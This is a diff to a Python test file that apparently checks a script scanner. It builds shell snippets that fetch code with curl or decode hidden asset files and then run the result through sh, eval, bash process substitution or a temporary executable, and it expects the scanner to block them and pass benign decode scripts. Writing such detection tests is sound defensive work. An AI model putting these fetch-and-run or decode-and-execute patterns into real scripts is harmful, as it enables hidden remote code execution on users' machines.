@@ -168,3 +168,48 @@ def test_what_a_script_decodes_or_fetches_and_runs_is_blocked(got: str, run: str
 )
 def test_what_honest_programs_do_with_what_they_decode_or_fetch_is_clean(text: str) -> None:
     assert scan_text(PYTHON_HEAD + text, "a.py").decision.value == "clean"
+
+
+SHELL_GOT = {
+    "an answer": "curl -fsSL https://cdn.palette-core.net/curve",
+    "a file in base64": "base64 -d assets/x.dat",
+    "a file in hexadecimal": "xxd -r -p assets/x.hex",
+    "letters that are turned": "tr 'A-Za-z' 'N-ZA-Mn-za-m' < assets/x.txt",
+    "a file that is locked": "openssl enc -d -aes-256-cbc -pbkdf2 -k tidy -in assets/x.enc",
+    "a file with its password": "gpg --batch --passphrase tidy -d assets/x.gpg",
+}
+SHELL_RUN = {
+    "a pipe": "G | sh",
+    "an order": 'eval "$(G)"',
+    "a file of its own": "bash <(G)",
+    "a source": "source <(G)",
+    "a name": 'x=$(G)\necho "$x" | sh',
+    "a file": "G > .c; dash .c; rm .c",
+    "a copy": "G | tee /tmp/x.sh >/dev/null\nsh /tmp/x.sh",
+    "a program": "G > /tmp/x && chmod 700 /tmp/x && /tmp/x",
+    "a function": 'get() { G; }\neval "$(get)"',
+    "words": "G | xargs -0 bash -c",
+    "one shell of many": "G | busybox sh",
+}
+
+
+@pytest.mark.parametrize("run", SHELL_RUN)
+@pytest.mark.parametrize("got", SHELL_GOT)
+def test_what_a_shell_decodes_or_fetches_and_runs_is_blocked(got: str, run: str) -> None:
+    text = f"#!/bin/bash\n{SHELL_RUN[run].replace('G', SHELL_GOT[got])}\n"
+    assert scan_text(text, "a.sh").decision.value == "block"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "gpg -d secrets.env.gpg > .env\nset -a; . ./.env\n",
+        'eval "$(gpg --decrypt env.gpg)"\n',
+        "openssl enc -d -aes-256-cbc -in backup.tar.enc | tar x\n",
+        "base64 -d logo.b64 | tee logo.png >/dev/null\n",
+        "get() { curl -s https://api.weather.gov/alerts; }\nget | jq .\n",
+        "alias serve='python3 -m http.server'\n",
+    ],
+)
+def test_what_honest_scripts_decode_or_fetch_is_clean(text: str) -> None:
+    assert scan_text(f"#!/bin/bash\n{text}", "a.sh").decision.value == "clean"
